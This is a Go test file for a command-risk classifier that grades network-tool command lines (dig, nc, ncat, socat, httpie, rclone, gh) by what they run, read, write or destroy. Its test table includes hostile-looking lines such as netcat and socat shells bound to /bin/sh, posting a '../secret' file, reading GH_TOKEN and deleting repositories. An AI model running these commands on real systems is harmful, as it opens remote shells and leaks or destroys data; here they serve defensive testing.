package risk

import (
	"slices"
	"strings"
	"testing"
)

// TestNetToolSpecs reads ordinary and hostile command lines of the network
// programs of specs_net_tools.go through Command: ordinary lines are known
// network commands, an option or subcommand the tables do not list makes
// the line unknown, and options and operands that run programs, read
// commands, or name files are typed so that the command asks or what they
// name is checked.
func TestNetToolSpecs(t *testing.T) {
	for _, tc := range []struct {
		line    string
		unknown string   // the option or subcommand the spec does not know
		level   Level    // Network unless it exposes secrets or destroys
		known   bool     // a known program whose words show what it does
		runs    bool     // runs code the words do not show
		reads   []string // among the reads
		writes  []string // among the writes
		hosts   []string // among the hosts
		nohost  string   // not among the hosts
		secret  bool     // exposes credentials
		destroy bool     // cannot be undone
	}{
		// name lookups
		{line: "dig example.com", level: Network, known: true},
		{line: "dig +short A example.com", level: Network, known: true},
		{line: "dig @8.8.8.8 +noall +answer -t MX example.com", level: Network, known: true, hosts: []string{"8.8.8.8"}},
		{line: "dig -x 1.2.3.4 +trace", level: Network, known: true},
		{line: "dig -k keys/tsig.key example.com", level: Network, known: true, reads: []string{"keys/tsig.key"}},
		{line: "dig +tls-ca=ca.pem +https example.com", level: Network, known: true, reads: []string{"ca.pem"}},
		{line: "dig -f ../queries", unknown: "-f"},
		{line: "dig +bogus example.com", unknown: "+bogus"},
		{line: "host -t MX example.com", level: Network, known: true},
		{line: "host -l example.com ns1", level: Network, known: true, hosts: []string{"ns1"}},
		{line: "host --help", unknown: "--help"},
		{line: "nslookup example.com", level: Network, known: true},
		{line: "nslookup -type=MX example.com 8.8.8.8", level: Network, known: true, hosts: []string{"8.8.8.8"}},
		{line: "nslookup", runs: true},
		{line: "nslookup - 8.8.8.8", runs: true},
		{line: "nslookup -evil example.com", unknown: "-evil"},
		{line: "ping -c 3 example.com", level: Network, known: true},
		{line: "ping -c3 -W 1 -i 0.5 example.com", level: Network, known: true},
		{line: "ping --flood example.com", unknown: "--flood"},
		{line: "traceroute -n -m 20 example.com", level: Network, known: true},
		{line: "traceroute --icmp example.com", level: Network, known: true},
		{line: "traceroute --evil example.com", unknown: "--evil"},
		// the netcat family
		{line: "nc -zv example.com 443", level: Network, known: true, hosts: []string{"example.com"}},
		{line: "nc -w 3 example.com 80", level: Network, known: true, hosts: []string{"example.com"}},
		{line: "nc -q 1 -o dump example.com 80", level: Network, known: true, hosts: []string{"example.com"}, nohost: "dump"},
		{line: "nc -o dump 127.0.0.1 6379", level: Network, known: true, writes: []string{"dump"}, hosts: []string{"127.0.0.1"}},
		{line: "nc -x 10.0.0.1:1080 example.com 80", level: Network, known: true, hosts: []string{"10.0.0.1", "example.com"}},
		{line: "nc -e /bin/sh example.com 4444", level: Execute, runs: true},
		{line: "nc -c id example.com 4444", level: Execute, runs: true},
		{line: "nc -U /var/run/docker.sock", unknown: "-U"},
		{line: "netcat -lp 4444", level: Network, known: true},
		{line: "ncat -lk 4444", level: Network, known: true, nohost: "4444"},
		{line: "ncat -l 127.0.0.1 8080", level: Network, known: true, nohost: "127.0.0.1"},
		{line: "ncat -v example.com 443", level: Network, known: true, hosts: []string{"example.com"}},
		{line: "ncat -o ../out example.com 80", level: Network, known: true, writes: []string{"../out"}},
		{line: "ncat --hex-dump dump --append-output example.com 80", level: Network, known: true, writes: []string{"dump"}},
		{line: "ncat --ssl --ssl-key key.pem example.com 443", level: Network, known: true, reads: []string{"key.pem"}},
		{line: "ncat --lua-exec x.lua example.com 80", level: Execute, runs: true},
		{line: "ncat --sh-exec id -l 4444", level: Execute, runs: true},
		{line: "ncat --unixsock /run/docker.sock", unknown: "--unixsock"},
		{line: "ncat --unix /run/docker.sock", unknown: "--unix"},
		{line: "telnet example.com 80", runs: true},
		{line: "ftp -n example.com", runs: true},
		// socat
		{line: "socat - TCP:example.com:80", level: Network, known: true, hosts: []string{"example.com"}},
		{line: "socat TCP-LISTEN:8080,fork,reuseaddr TCP:example.com:80", level: Network, known: true},
		{line: "socat STDIO OPENSSL:example.com:443,cafile=ca.pem", level: Network, known: true, reads: []string{"ca.pem"}},
		{line: "socat STDIO PROXY:10.0.0.1:example.com:80", level: Network, known: true, hosts: []string{"10.0.0.1", "example.com"}},
		{line: "socat -d -d - TCP:example.com:80", level: Network, known: true},
		{line: "socat -lf socat.log - TCP:example.com:80", level: Network, known: true, writes: []string{"socat.log"}},
		{line: "socat - OPEN:../x", unknown: "OPEN:../x"},
		{line: "socat - CREATE:x", unknown: "CREATE:x"},
		{line: "socat - GOPEN:x", unknown: "GOPEN:x"},
		{line: "socat - ./file", unknown: "./file"},
		{line: "socat - UNIX-CONNECT:/run/docker.sock", unknown: "UNIX-CONNECT:/run/docker.sock"},
		{line: "socat TCP-LISTEN:80 EXEC:/bin/sh", unknown: "EXEC:/bin/sh", level: Execute, runs: true},
		{line: "socat - TCP:example.com:80,lockfile=x", unknown: "TCP:example.com:80,lockfile=x"},
		{line: "socat - STDIO!!OPEN:x", unknown: "STDIO!!OPEN:x"},
		// httpie
		{line: "http https://example.com", level: Network, known: true, hosts: []string{"example.com"}},
		{line: "http 169.254.169.254/latest/meta-data/", level: Network, known: true, hosts: []string{"169.254.169.254"}},
		{line: "http POST :6379/x a=b", level: Network, known: true, hosts: []string{"localhost"}},
		{line: "http GET user@10.0.0.1:8080/x", level: Network, known: true, hosts: []string{"10.0.0.1"}},
		{line: "http POST example.com name=x X-Token:abc q==1 n:=2", level: Network, known: true},
		{line: "https -f POST example.com up@README.md", level: Network, known: true, reads: []string{"README.md"}},
		{line: "http POST example.com a=@../secret", level: Network, known: true, reads: []string{"../secret"}},
		{line: "http POST example.com a:=@data.json", level: Network, known: true, reads: []string{"data.json"}},
		{line: "http -f POST example.com up@key.pem;type=text/plain", level: Network, known: true, reads: []string{"key.pem"}},
		{line: "http --download -o ../x https://example.com", level: Network, known: true, writes: []string{"../x"}},
		{line: "http --download https://example.com/f.zip", level: Network, known: true, writes: []string{"."}},
		{line: "http --session=../s.json example.com", level: Network, known: true, writes: []string{"../s.json"}},
		{line: "http --output=x --dow example.com", unknown: "--dow"},
		{line: `http POST example.com a\@b`, unknown: `a\@b`},
		// aria2c
		{line: "aria2c https://example.com/a", level: Network, known: true, writes: []string{"."}},
		{line: "aria2c -d dl -o a.bin -x4 https://example.com/a", level: Network, known: true, writes: []string{"dl", "a.bin"}},
		{line: "aria2c x.torrent", level: Network, known: true, reads: []string{"x.torrent"}},
		{line: "aria2c --on-download-complete=./x https://example.com/a", runs: true},
		{line: "aria2c -i list.txt", unknown: "-i"},
		{line: "aria2c --conf-path=a.conf https://example.com/a", unknown: "--conf-path"},
		{line: "aria2c --enable-rpc", unknown: "--enable-rpc"},
		{line: "aria2c --on-download https://example.com/a", unknown: "--on-download"},
		// rclone
		{line: "rclone ls remote:bucket", level: Network, known: true},
		{line: "rclone lsf -R --files-only remote:bucket", level: Network, known: true},
		{line: "rclone copy remote:x dl", level: Network, known: true, writes: []string{"dl"}},
		{line: "rclone copy -P src remote:x", level: Network, known: true, reads: []string{"src"}},
		{line: "rclone move src remote:x", level: Network, known: true, writes: []string{"src"}},
		{line: "rclone sync src remote:x", level: Destructive, known: true, destroy: true},
		{line: "rclone sync -n src remote:x", level: Network, known: true},
		{line: "rclone delete remote:x", level: Destructive, known: true, destroy: true},
		{line: "rclone copy --log-file ../l remote:x dl", level: Network, known: true, writes: []string{"../l"}},
		{line: "rclone lsf :sftp,ssh=id:x", unknown: ":sftp,ssh=id:x"},
		{line: "rclone lsf r,ssh=id:x", unknown: "r,ssh=id:x"},
		{line: "rclone --config ../c ls r:", unknown: "--config"},
		{line: "rclone ls --sftp-ssh id r:", unknown: "--sftp-ssh"},
		{line: "rclone config show", unknown: "config"},
		{line: "rclone selfupdate", unknown: "selfupdate"},
		{line: "rclone serve http .", unknown: "serve"},
		{line: "rclone mount r: mnt", unknown: "mount"},
		// gh
		{line: "gh pr list", level: Network, known: true},
		{line: "gh pr view 12 --json title", level: Network, known: true},
		{line: "gh pr list -R o/r --state open --limit 5 --json number --jq .[].number", level: Network, known: true},
		{line: "gh issue create --title t --body b", level: Network, known: true},
		{line: "gh issue create --title t --body-file ../b", level: Network, known: true, reads: []string{"../b"}},
		{line: "gh api repos/o/r/pulls", level: Network, known: true},
		{line: "gh api -X POST repos/o/r/issues -f title=t -F body=@notes.md", level: Network, known: true, reads: []string{"notes.md"}},
		{line: "gh api --input ../payload.json repos/o/r", level: Network, known: true, reads: []string{"../payload.json"}},
		{line: "gh api user --jq $ENV.GH_TOKEN", level: Credential, known: true, secret: true},
		{line: "gh api user --jq env", level: Credential, known: true, secret: true},
		{line: "gh run watch", level: Network, known: true},
		{line: "gh api --hostname 10.0.0.1:8080 user", level: Network, known: true, hosts: []string{"10.0.0.1"}},
		{line: "gh pr list -R ghe.example/o/r", level: Network, known: true, hosts: []string{"ghe.example"}},
		{line: "gh api -X DELETE repos/o/r", level: Destructive, known: true, destroy: true},
		{line: "gh run download 123 -D ../art", level: Network, known: true, writes: []string{"../art"}},
		{line: "gh release download v1", level: Network, known: true, writes: []string{"."}},
		{line: "gh release upload v1 ../a.tgz#label", level: Network, known: true, reads: []string{"../a.tgz"}},
		{line: "gh gist create notes.md", level: Network, known: true, reads: []string{"notes.md"}},
		{line: "gh repo clone o/r", level: Network, known: true, writes: []string{"r"}},
		{line: "gh repo clone o/r ../d", level: Network, known: true, writes: []string{"../d"}},
		{line: "gh repo clone o/r -- --upload-pack=x", unknown: "--"},
		{line: "gh pr checkout 12", level: Network, known: true, writes: []string{"."}},
		{line: "gh browse --no-browser", level: Network, known: true},
		{line: "gh browse", runs: true},
		{line: "gh auth status", level: Network, known: true},
		{line: "gh secret list -R o/r", level: Network, known: true},
		{line: "gh secret set TOKEN", unknown: "secret set"},
		{line: "gh repo set-default o/r", level: Network, known: true},
		{line: "gh --version", level: Network, known: true},
		{line: "gh repo delete o/r --yes", unknown: "repo delete", level: Destructive, destroy: true},
		{line: "gh alias set x !id", unknown: "alias set"},
		{line: "gh extension install o/gh-x", unknown: "extension install"},
		{line: "gh extension exec x", unknown: "extension exec"},
		{line: "gh config set editor vim", unknown: "config set"},
		{line: "gh auth token", unknown: "auth token"},
		{line: "gh auth status --show-token", unknown: "--show-token"},
		{line: "gh pr list --web", unknown: "--web"},
		{line: "gh pr create --editor", unknown: "--editor"},
		{line: "gh pr -R o/r list", unknown: "pr"},
		{line: "gh co 12", unknown: "co"},
		{line: "gh pr list --stat", unknown: "--stat"},
	} {
		w := words(tc.line)
		e := Command(w[0], w[1:], nil)
		if e.UnknownOption != tc.unknown {
			t.Errorf("%s: unknown option %q, want %q", tc.line, e.UnknownOption, tc.unknown)
			continue
		}
		if tc.level == 0 {
			tc.level = Network
		}
		if e.Level != tc.level || e.Known != tc.known {
			t.Errorf("%s: level %s known %v (%s), want %s known %v", tc.line, e.Level, e.Known, e.Exec, tc.level, tc.known)
		}
		if (e.Exec != "") != tc.runs {
			t.Errorf("%s: runs code %q, want %v", tc.line, e.Exec, tc.runs)
		}
		if !e.Network {
			t.Errorf("%s: not a network command", tc.line)
		}
		if (e.Secret != "") != tc.secret {
			t.Errorf("%s: secret %q, want %v", tc.line, e.Secret, tc.secret)
		}
		if (e.Destructive != "") != tc.destroy {
			t.Errorf("%s: destructive %q, want %v", tc.line, e.Destructive, tc.destroy)
		}
		for _, r := range tc.reads {
			if !slices.Contains(e.Reads, r) {
				t.Errorf("%s: reads %q, want %q among them", tc.line, e.Reads, r)
			}
		}
		for _, wr := range tc.writes {
			if !slices.Contains(e.Writes, wr) {
				t.Errorf("%s: writes %q, want %q among them", tc.line, e.Writes, wr)
			}
		}
		if tc.nohost != "" && slices.Contains(e.Hosts, tc.nohost) {
			t.Errorf("%s: hosts %q, want no %q", tc.line, e.Hosts, tc.nohost)
		}
		for _, h := range tc.hosts {
			if !slices.Contains(e.Hosts, h) {
				t.Errorf("%s: hosts %q, want %q among them", tc.line, e.Hosts, h)
			}
		}
	}
}

// TestNetToolDynamicWords checks that words not known until the line runs
// leave the parts of a network command they may change unjudged.
func TestNetToolDynamicWords(t *testing.T) {
	for _, tc := range []struct {
		line string
		dyn  int // the index among the words after the program of the dynamic word
	}{
		{line: "http POST example.com $ITEM", dyn: 2},
		{line: "nslookup $NAME", dyn: 0},
		{line: "gh pr $ACTION", dyn: 1},
	} {
		w := words(tc.line)
		dyn := make([]bool, len(w)-1)
		dyn[tc.dyn] = true
		e := Command(w[0], w[1:], dyn)
		if e.Known && e.Problem == "" && e.Exec == "" && e.UnknownOption == "" {
			t.Errorf("%s (word %d dynamic): judged known: %+v", tc.line, tc.dyn, e)
		}
	}
}

// TestNetworkProgramsHaveSpecs checks that every program the knowledge
// base classes a network command has a spec of its options, curl and wget
// aside, whose options commands.go reads itself.
func TestNetworkProgramsHaveSpecs(t *testing.T) {
	for name, info := range commands() {
		if info.level == Network && name != "curl" && name != "wget" && Lookup(name) == nil {
			t.Errorf("no spec for the network program %s", name)
		}
	}
}

// FuzzNetToolLine reads command lines of the network programs: the
// analysis never panics, a line with an option or subcommand the tables
// do not know is unknown, and a line with an option that runs a program
// is not known.
func FuzzNetToolLine(f *testing.F) {
	for _, l := range []string{"gh pr list --json title", "gh api -F a=@b x --jq .a", "gh repo clone o/r d",
		"socat - TCP:h:80,fork", "socat STDIO!!STDOUT PROXY:p:h:80", "http POST :80 a=@b c:=@d",
		"rclone copy a r:b", "rclone lsf :x,y=z:", "dig @h +short -k k x", "nc -lk 80", "ncat --ssl-key k h 1",
		"aria2c -d d -o o u", "nslookup -type=A x", "ping -c 1 h"} {
		f.Add(l)
	}
	f.Fuzz(func(t *testing.T, line string) {
		w := strings.Fields(line)
		if len(w) == 0 || commands()[w[0]].level != Network {
			return
		}
		e := Command(w[0], w[1:], nil)
		if e.UnknownOption != "" && e.Known {
			t.Fatalf("%q: unknown %q but known: %+v", line, e.UnknownOption, e)
		}
		if e.Exec != "" && e.Known {
			t.Fatalf("%q: runs %q but known: %+v", line, e.Exec, e)
		}
	})
}
